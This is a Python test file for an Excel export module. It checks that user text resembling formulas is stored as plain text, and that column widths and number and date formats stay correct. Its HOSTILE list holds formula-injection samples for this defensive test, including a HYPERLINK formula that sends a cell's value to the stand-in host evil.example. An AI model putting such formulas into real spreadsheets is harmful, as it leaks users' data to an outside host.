"""Excel exports write people's text as text: nothing a user typed becomes a live formula."""
from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from services.indicator_tables import Cell, Table
from webui import excel

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86 0796 8888000", "-2+3", "@SUM(A1:A9)",
           "\t=1+1"]


def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
    rows = [[Cell(text), Cell("-3", value=-3), Cell("12.5%", value=0.125, percent=True)] for text in HOSTILE]
    data = excel.workbook([Table("t", "=团队", ["=名称", "数", "率"], rows)], "=2026-03")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "=2026-03" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert [sheet.cell(row=3 + n, column=1).value for n in range(len(HOSTILE))] == HOSTILE
    assert all(sheet.cell(row=3 + n, column=1).data_type == "s" for n in range(len(HOSTILE)))
    assert sheet["B3"].value == -3 and sheet["B3"].data_type == "n" and sheet["C3"].value == 0.125


def test_columns_fit_their_headers_the_header_row_stays_and_numbers_rates_and_dates_keep_their_kind():
    headers = ["月份", "按期完成周期检查率", "隐患数", "平均天数", "整改期限", "Team"]
    rows = [[Cell("2026-03"), Cell("85.0% (17/20)", value=0.85, percent=True), Cell("12", value=12),
             Cell("3.5", value=3.5), Cell("2026-03-31"), Cell("吉州用电检查一组（城区）")]]
    sheet = load_workbook(io.BytesIO(excel.workbook([Table("t", "表", headers, rows)], "2026年3月"))).active
    assert sheet.freeze_panes == "A3"                       # heading line and header row stay in view
    for index, header in enumerate(headers, start=1):
        width = sheet.column_dimensions[chr(64 + index)].width
        assert width >= excel.display_width(header), (header, width)
    assert excel.display_width("按期完成周期检查率") == 18 and sheet.column_dimensions["B"].width >= 18
    assert sheet.column_dimensions["F"].width >= excel.display_width("吉州用电检查一组（城区）")
    month, rate, count, days, deadline = (sheet.cell(row=3, column=n) for n in range(1, 6))
    assert month.is_date and month.number_format == "yyyy-mm" and month.value.strftime("%Y-%m") == "2026-03"
    assert rate.value == 0.85 and rate.number_format == "0.0%" and "17/20" in rate.comment.text
    assert count.value == 12 and count.data_type == "n" and days.value == 3.5 and days.number_format == "0.0"
    assert deadline.is_date and deadline.number_format == "yyyy-mm-dd" and deadline.value.day == 31
    assert [excel.shown(c.value, c.number_format) for c in sheet[3]][:5] == ["2026-03", "85.0%", "12", "3.5",
                                                                             "2026-03-31"]
